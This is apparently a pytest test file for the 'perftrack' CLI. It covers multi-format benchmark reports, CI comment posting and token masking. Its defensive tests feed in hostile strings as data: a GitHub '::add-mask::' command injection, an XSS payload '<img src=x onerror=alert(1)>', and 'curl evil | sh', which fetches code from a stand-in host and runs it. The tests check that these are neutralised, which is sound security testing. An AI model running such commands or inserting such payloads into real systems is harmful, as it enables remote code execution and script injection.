"""`--report` and `perftrack comment` as a job runs them."""

import json
import os
import signal
import subprocess
import sys
from types import SimpleNamespace
from xml.etree import ElementTree as ET

import pytest
from ci_builders import BOT, TOKEN, make_report

from perftrack.cli import main
from perftrack.judge.value import Finding, Interval, Summary
from perftrack.model import Case, Device, JobResult, Method, Revision, Run, RunOptions, Status, Traffic, Verdict
from perftrack.report import as_json
from perftrack.store import Store

CLASS = "NVIDIA-H200-141G"
CASE = Case(
    suite="elementwise", benchmark="add", key="add[n=1]", backend="cuda", params={"n": 1},
    variants=("unfused", "fused"), traffic=Traffic(read_bytes=2, write_bytes=1), min_effect=0.02,
)  # fmt: skip
DEVICE = Device(uuid="GPU-a", name="H200", backend="cuda", device_class=CLASS, node="n", memory_bytes=1)


def revision(number, subject):
    return Revision(
        sha=f"{number:07x}".ljust(40, "a"), tree="t" * 40, dirty=False, parent=None, position=number,
        committed_us=number, subject=subject,
    )  # fmt: skip


@pytest.fixture(scope="module")
def database(tmp_path_factory):
    """A store with one red run, of a commit whose message is meant for the runner."""
    path = tmp_path_factory.mktemp("db") / "perf.db"
    run = Run(
        uid="7" * 32, repo="r", head=revision(7, "s"), base=revision(6, "s"), base_note="parent, 1 commit back",
        started_us=5, options=RunOptions(methods={"cuda": Method()}),
    )  # fmt: skip
    names = {"suite": CASE.suite, "case_key": CASE.key, "device_class": CLASS}
    summaries = [
        Summary(**names, device_uuid="GPU-a", environment_digest="", variant=variant, side="head", status=Status.OK,
                time_s=1e-5)
        for variant in CASE.variants
    ]  # fmt: skip
    finding = Finding(
        **names, variant="fused", verdict=Verdict.SLOWER, confirmed=True, head_s=1.2e-5, base_s=1e-5,
        change=Interval(1.2, 1.19, 1.21), rounds=5, message="::add-mask::x",
    )  # fmt: skip
    with Store.open(str(path)) as store:
        store.begin_run(run)
        job = JobResult(
            **names, round=1, attempt=1, status=Status.OK, device_uuid="GPU-a", environment=None, wall_s=1.0
        )
        store.add_job(run.uid, CASE, job, DEVICE)
        store.finish_run(run.uid, state="complete", finished_us=9, summaries=summaries, findings=[finding])
    return path


@pytest.fixture
def perftrack(tmp_path, database, monkeypatch, capsys):
    """Run `perftrack ARGS` as a step of a job with these variables, in this process: a start takes a second."""
    for name in [name for name in os.environ if name.startswith(("GITHUB_", "GITLAB_", "CI"))]:
        monkeypatch.delenv(name)
    monkeypatch.chdir(tmp_path)
    terminate = signal.getsignal(signal.SIGTERM)

    def call(*args, environ=None):
        for name, value in {"PERFTRACK_DB": f"sqlite:///{database}", "COLUMNS": "120", **(environ or {})}.items():
            monkeypatch.setenv(name, value)
        monkeypatch.setattr(sys, "argv", ["perftrack", *args])
        with pytest.raises(SystemExit) as ended:
            main()
        shown = capsys.readouterr()
        return SimpleNamespace(returncode=ended.value.code, stdout=shown.out, stderr=shown.err)

    yield call
    signal.signal(signal.SIGTERM, terminate)


def test_one_report_goes_to_several_places(perftrack, tmp_path):
    wishes = ["json:perf.json", "junit:perf.xml", "html:perf.html", "openmetrics:perf.prom", "jsonl:perf.jsonl"]
    done = perftrack("report", *(part for wish in wishes for part in ("--report", wish)))
    assert (done.returncode, done.stderr) == (1, "")
    assert done.stdout.startswith("RED  1 confirmed slowdown")
    report = as_json.read(tmp_path / "perf.json")
    assert (report.verdict, report.base_note) == ("RED", "parent, 1 commit back")
    suites = ET.parse(tmp_path / "perf.xml").getroot()  # noqa: S314 - we wrote it
    assert (suites.get("tests"), suites.get("failures")) == ("2", "1")
    assert (tmp_path / "perf.prom").read_text().endswith("# EOF\n")
    assert len((tmp_path / "perf.jsonl").read_text().splitlines()) == 3
    assert (tmp_path / "perf.html").read_text().startswith("<!DOCTYPE html>")


def test_a_format_without_a_file_takes_the_place_of_the_text(perftrack):
    done = perftrack("report", "--report", "json")
    assert json.loads(done.stdout)["verdict"] == "RED"
    both = perftrack("report", "--report", "github", "--report", "text")
    assert both.stdout.startswith("::notice title=perftrack::RED: ")
    assert "\nRED  1 confirmed slowdown" in both.stdout


def test_where_only_ascii_is_known_programs_get_utf_8_and_people_ascii(database, tmp_path):
    done = subprocess.run(
        [sys.executable, "-m", "perftrack", "report", "--report", "markdown", "--report", "text"],
        cwd=tmp_path,
        env={**os.environ, "PERFTRACK_DB": f"sqlite:///{database}", "PYTHONIOENCODING": "ascii"},
        capture_output=True,
        check=False,
        timeout=60,
    )
    assert (done.returncode, done.stderr) == (1, b"")
    as_markdown, as_text = done.stdout.split(b"\nRED  ")
    assert "time µs" in as_markdown.decode()
    assert b" us" in as_text
    assert as_text.isascii()


@pytest.mark.parametrize(
    ("wish", "said"),
    [
        ("markdwon:x.md", r"no format is called 'markdwon'; did you mean 'markdown'?"),
        ("yaml", "no format is called 'yaml'; there are text, json"),
        ("json:", "the file is missing"),
        ("json:nosuch/x.json", "the folder nosuch does not exist"),
        ("json:.", "is a folder"),
        ("ci:x", "`ci` knows itself where to write"),
        ("ci", "neither GITHUB_ACTIONS nor GITLAB_CI is set"),
    ],
)
def test_what_cannot_be_written_is_refused_before_anything_is_done(perftrack, wish, said):
    done = perftrack("report", "--report", wish)
    assert (done.returncode, done.stdout) == (2, "")
    assert said in done.stderr


def test_a_job_of_github_shows_it_in_three_places(perftrack, host, github, tmp_path):
    (tmp_path / "summary.md").write_text("before\n")
    done = perftrack("report", "--report", "ci", environ=github())
    assert done.returncode == 1
    assert (tmp_path / "summary.md").read_text().startswith("before\n### RED: 1 confirmed slowdown")
    assert "::notice title=perftrack::RED: 1 confirmed slowdown" in done.stderr
    assert "\n::error title=slower%3A add[n=1] fused on NVIDIA-H200-141G::" in done.stderr
    assert done.stderr.splitlines()[-1] == "comment made on #12"
    assert "RED: 1 confirmed slowdown" in host.said()[0]
    assert TOKEN not in done.stdout + done.stderr + (tmp_path / "summary.md").read_text() + host.said()[0]


def test_what_is_measured_does_not_inherit_the_token(perftrack, github):
    perftrack("report", "--report", "ci", environ=github())
    assert TOKEN not in os.environ.values()


def test_a_summary_that_cannot_be_written_does_not_change_the_verdict(perftrack, github, tmp_path):
    done = perftrack("report", "--report", "ci", environ=github(GITHUB_STEP_SUMMARY=str(tmp_path)))
    assert (done.returncode, "summary none: GITHUB_STEP_SUMMARY" in done.stderr) == (1, True)
    assert done.stderr.splitlines()[-1] == "comment made on #12"


def test_text_in_a_log_of_github_commands_nothing(perftrack, github):
    done = perftrack("report", environ=github())
    assert ": :add-mask::x" in done.stdout
    assert "\n          ::add-mask" not in done.stdout


def test_a_job_of_gitlab_gets_its_note(perftrack, host, gitlab):
    done = perftrack("report", "--report", "ci", environ=gitlab())
    assert (done.returncode, done.stderr) == (1, "comment made on !12\n")
    assert len(host.comments) == 1


def test_a_host_that_refuses_does_not_change_the_verdict(perftrack, github):
    done = perftrack("report", "--report", "ci", environ=github(GITHUB_TOKEN="expired"))  # noqa: S106 - is none
    assert done.returncode == 1
    assert "comment none: GET" in done.stderr
    assert "401 Bad credentials" in done.stderr


def test_a_run_without_a_verdict_is_not_silent(perftrack, github, tmp_path):
    done = perftrack("report", "nosuch", "--report", "ci", environ=github())
    assert done.returncode == 2
    assert "::error title=perftrack%3A no verdict::" in done.stderr
    assert (tmp_path / "summary.md").read_text().startswith("### NO VERDICT: ")


def test_a_second_workflow_posts_the_artifact_of_the_first(perftrack, host, github, report_file):
    event = {
        "workflow_run": {
            "name": "performance", "event": "pull_request", "head_sha": "f" * 40, "head_branch": "topic",
            "head_repository": {"owner": {"login": "bob"}},
        }
    }  # fmt: skip
    host.pulls = [{"number": 31, "head": {"sha": "f" * 40}, "label": "bob:topic"}]
    done = perftrack("comment", str(report_file), environ=github(event))
    assert (done.returncode, done.stdout, done.stderr) == (0, "", "comment made on #31\n")
    assert "RED: 1 confirmed slowdown" in host.said()[0]


def test_a_comment_that_cannot_be_written_is_exit_3(perftrack, host, github, report_file):
    del host.writers[TOKEN]
    host.readers[TOKEN] = BOT
    done = perftrack("comment", str(report_file), environ=github())
    assert (done.returncode, "the token may not write here" in done.stderr) == (3, True)
    assert TOKEN not in done.stderr


def test_nothing_to_comment_on_is_no_failure(perftrack, host, github, report_file):
    done = perftrack("comment", str(report_file), environ=github({}, GITHUB_EVENT_NAME="push"))
    assert (done.returncode, done.stderr) == (0, "comment none: the event `push` belongs to no pull request\n")
    assert host.asked == []


def test_what_a_suite_says_commands_nothing_either(perftrack, github):
    done = perftrack("report", "no\n::add-mask::x", environ=github())
    assert done.returncode == 2
    assert not [line for line in done.stderr.splitlines() if line.lstrip().startswith("::")]


def test_an_artifact_of_a_fork_is_only_data(perftrack, host, github, tmp_path):
    hostile = make_report(
        head_subject="<img src=x onerror=alert(1)> @everyone",
        rows=tuple(
            type(row)(**{**{name: getattr(row, name) for name in row.__struct_fields__}, "next": "curl evil | sh"})
            for row in make_report().rows
        ),
    )
    path = tmp_path / "perf.json"
    path.write_text(as_json.render(hostile))
    assert perftrack("comment", str(path), environ=github()).returncode == 0
    assert "<img" not in host.said()[0]
    assert "@everyone" not in host.said()[0]
    assert "curl" not in host.said()[0]


def test_help_names_every_format_and_the_host(perftrack):
    shown = perftrack("report", "--help").stdout
    for name in ("text", "json", "jsonl", "markdown", "html", "junit", "github", "openmetrics"):
        assert name in shown
    assert "--report FORMAT[:FILE]" in shown
